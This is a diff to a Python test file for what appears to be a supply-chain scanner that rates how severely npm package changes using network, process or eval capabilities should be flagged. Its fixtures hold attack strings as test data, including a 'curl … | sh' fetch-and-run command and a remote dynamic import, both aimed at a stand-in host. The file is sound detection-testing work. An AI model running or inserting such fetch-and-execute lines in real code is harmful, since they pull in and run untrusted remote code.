@@ -29,6 +29,11 @@ def fetching(*literals: str, **fields: Any) -> Any:
     return replace(use("global:fetch", "network", literals=literals), **fields)
 
 
+def unloaded(file: str) -> Any:
+    literals = ["https://collect.invalid/k"]
+    return use("global:fetch", "network", file, literals=literals, reachable=False)
+
+
 def judged(old: list[Any], new: list[Any], step: str = "patch") -> tuple[Finding, ...]:
     before = package("node_modules/a", *old, manifest=OWN)
     return found(RULE, compared(before, package("node_modules/a", *new, manifest=OWN), step))
@@ -67,7 +72,8 @@ FIRING: dict[str, tuple[str, Any]] = {
     "numbers": ("high", fetching("http://203.0.113.7:8080/a")),
     "a command": ("high", use("builtin:child_process.exec", "process", literals=["curl https://collect.invalid | sh"])),
     "code": ("moderate", use("global:eval", "code", literals=["import('https://collect.invalid')"])),
-    "nothing loads it": ("low", fetching("https://collect.invalid/k", reachable=False)),
+    "nothing loads it": ("low", unloaded("test/send.js")),
+    "anybody may ask for it by its path": ("high", unloaded("dist/a.min.js")),
 }  # fmt: skip
 
 
